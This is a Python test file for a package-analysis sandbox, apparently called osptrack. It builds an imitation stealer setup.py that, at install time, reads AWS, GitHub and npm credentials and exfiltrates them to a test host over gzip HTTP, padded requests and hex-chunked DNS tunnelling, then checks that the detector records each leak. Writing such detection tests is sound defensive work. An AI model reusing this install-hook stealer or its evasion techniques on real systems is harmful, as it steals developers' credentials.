"""End to end in the real sandbox: a harmless imitation stealer exfiltrates the baits over plain
HTTP and DNS in the ways the old scanner missed, and run.json proves every one of them."""

from __future__ import annotations

import json
from typing import Any

import pytest

from builders import EXFIL_HOST, EXFIL_PORT, make_sdist
from osptrack.jsonio import read_jsonl
from osptrack.run import AnalyzeOptions, analyze
from osptrack.sandbox.fakenet.responders.base import MAX_CAPTURE
from osptrack.target import parse_target

pytestmark = pytest.mark.sandbox

TUNNEL_PARENT = "t.tunnel.osptrack-test.example.com"

# Runs inside the sandbox at install time. Only the fake network is ever reached.
STEALER = f'''
import gzip, os, socket

def send(raw):
    try:
        addr = socket.getaddrinfo("{EXFIL_HOST}", {EXFIL_PORT}, socket.AF_INET, socket.SOCK_STREAM)[0][4]
        s = socket.create_connection(addr, timeout=3)
        s.sendall(raw)
        s.settimeout(3)
        try:
            s.recv(100)
        except OSError:
            pass
        s.close()
    except OSError as exc:
        print("osptrack-test: network failed", exc)

def post(path, body, *headers):
    head = "".join(h + "\\r\\n" for h in headers)
    send(("POST %s HTTP/1.1\\r\\nHost: {EXFIL_HOST}\\r\\n%sContent-Length: %d\\r\\n\\r\\n" % (path, head, len(body))).encode() + body)

home = os.path.expanduser("~")
creds = open(os.path.join(home, ".aws", "credentials"), "rb").read()
# 1. a gzip body of ~/.aws/credentials
post("/gz", gzip.compress(creds), "Content-Encoding: gzip", "Content-Type: application/octet-stream")
# 2. a clear secret beside percent-escapes that decode to no Latin-1 text
token = os.environ.get("GITHUB_TOKEN", "")
send(("GET /p?junk=%ff%fe%e2%82%ac%00&t=" + token + " HTTP/1.1\\r\\nHost: {EXFIL_HOST}\\r\\n\\r\\n").encode())
# 3. the npm token hex-encoded and split over DNS queries, one chunk per query
npm = open(os.path.join(home, ".npmrc")).read().strip().rsplit("=", 1)[1].encode().hex()
for i in range(0, len(npm), 12):
    try:
        socket.getaddrinfo(npm[i : i + 12] + ".{TUNNEL_PARENT}", 80, socket.AF_INET)
    except OSError:
        pass
# 4. a secret after 70,000 bytes of padding
post("/pad", b"pad=" + b"A" * 70000 + b"&id=" + os.environ.get("AWS_ACCESS_KEY_ID", "").encode())
'''


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    src = tmp_path_factory.mktemp("stealer")
    setup_py = STEALER + "\nfrom setuptools import setup\nsetup(name='osptrack-stealer', version='1.0.0')\n"
    archive = make_sdist(src, "osptrack-stealer", "1.0.0", setup_py)
    out = tmp_path_factory.mktemp("runs") / "stealer"
    outcome = analyze(parse_target("pypi", str(archive)), AnalyzeOptions(timeout_s=120), out)
    assert outcome.statuses["install"] == "completed"
    return json.loads((out / "run.json").read_text()), read_jsonl(out / "network.jsonl")


def _found(run_info: dict[str, Any]) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for f in run_info["exfiltration"]:
        found.setdefault(f["kind"], set()).add(f["encoding"])
    return found


def test_every_bait_sent_is_proven_with_its_chain(run: tuple[dict[str, Any], list[dict[str, Any]]]) -> None:
    run_info, _ = run
    found = _found(run_info)
    assert "gzip" in found["aws_secret_access_key"], found
    assert "raw" in found["github_token"], found
    assert "dns-tunnel>hex" in found["npm_token"], found
    tunnel = next(f for f in run_info["exfiltration"] if f["encoding"] == "dns-tunnel>hex")
    assert tunnel["flow"]["parent"] == TUNNEL_PARENT and tunnel["phase"] == "install"
    gz = next(f for f in run_info["exfiltration"] if f["encoding"] == "gzip")
    assert gz["flow"]["dst_port"] == EXFIL_PORT


def test_no_flow_is_lost_and_no_scanner_error(run: tuple[dict[str, Any], list[dict[str, Any]]]) -> None:
    run_info, network = run
    assert run_info["network"]["errors"] == 0, run_info["network"]
    assert run_info["network"]["error_reasons"] == {}
    paths = [r["http"]["path"] for r in network if r["kind"] == "tcp" and r.get("http")]
    assert {"/gz", "/pad"} <= set(paths) and any(p.startswith("/p?junk=%ff") for p in paths), paths
    tunnel = [r for r in network if r["kind"] == "dns" and r["qname"].endswith("." + TUNNEL_PARENT)]
    assert len({r["qname"] for r in tunnel}) >= 4


@pytest.mark.skipif(MAX_CAPTURE <= 70_100, reason=f"the fake network captures {MAX_CAPTURE} bytes per flow")
def test_a_secret_after_70000_bytes_is_proven(run: tuple[dict[str, Any], list[dict[str, Any]]]) -> None:
    run_info, _ = run
    assert "raw" in _found(run_info)["aws_access_key_id"]
